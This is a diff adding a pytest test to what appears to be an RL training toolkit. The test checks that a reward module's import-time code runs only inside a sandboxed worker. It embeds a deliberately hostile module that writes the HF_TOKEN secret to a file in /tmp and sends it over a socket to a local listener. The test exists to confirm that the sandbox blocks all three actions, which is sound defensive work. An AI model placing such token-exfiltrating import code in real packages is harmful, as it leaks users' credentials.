@@ -611,3 +611,66 @@ def test_processes_a_call_leaves_running_are_killed_when_it_returns(limits: Sand
         worker = m.worker.pid
         assert m.score(["x"], [EX]).failures == [] and m.worker.pid == worker  # the same worker serves on
     assert _with_argument(token) == []
+
+
+HOSTILE_MODULE = """
+import os, socket
+
+DONE = []  # what the import managed: a file written outside, the token seen, the token sent
+try:
+    with open({marker!r}, "w") as f:
+        f.write(os.environ.get("HF_TOKEN", ""))
+    DONE.append("wrote")
+except OSError:
+    pass
+if os.environ.get("HF_TOKEN"):
+    DONE.append("token")
+try:
+    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
+        s.sendall(os.environ.get("HF_TOKEN", "").encode())
+    DONE.append("sent")
+except OSError:
+    pass
+
+
+def reward(completions, examples):
+    return [float(len(DONE))] * len(completions)
+"""
+
+
+@pytest.mark.parametrize("how", ["file", "module"])
+def test_a_reward_modules_top_level_code_runs_only_in_the_sandbox(
+    how: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The module named by a spec is imported and inspected in the sandboxed worker, never in the trainer: its
+    top-level code can neither write outside, nor see HF_TOKEN, nor reach the network."""
+    monkeypatch.setenv("HF_TOKEN", "hf_s3cret")
+    marker = Path("/tmp") / f"grpokit-import-escape-{uuid.uuid4().hex}"
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen(1)
+    server.settimeout(0.5)
+    name = f"hostile_{uuid.uuid4().hex[:8]}"
+    path = tmp_path / f"{name}.py"
+    path.write_text(HOSTILE_MODULE.format(marker=str(marker), port=server.getsockname()[1]))
+    monkeypatch.syspath_prepend(str(tmp_path))
+    spec = f"{path}:reward" if how == "file" else f"{name}:reward"
+    try:
+        with RewardManager([(spec, 1.0)], max_fail_frac=1.0, sandbox=LIMITS) as m:
+            result = m.score(["x"], [EX])
+        assert not marker.exists()
+        with pytest.raises(TimeoutError):
+            server.accept()
+        assert not [k for k in sys.modules if name in k]  # the trainer never imported it
+        assert result.rewards == [0.0]  # the import, in the worker, managed none of the three
+        assert m.rewards[0].convention == "grpokit"  # inspected in the worker, reported back
+    finally:
+        server.close()
+        marker.unlink(missing_ok=True)
+    # errors still surface when the manager is built, reported by the worker
+    path.write_text("raise RuntimeError('no GPU here')\n")
+    with pytest.raises(ValueError, match=r"importing .*' failed with RuntimeError: no GPU here"):
+        RewardManager([(spec, 1.0)], sandbox=LIMITS)
+    path.write_text("def other(completions, examples):\n    return [1.0]\n")
+    with pytest.raises(ValueError, match=r"has no attribute 'reward'; its public callables: \['other'\]"):
+        RewardManager([(spec, 1.0)], sandbox=LIMITS)
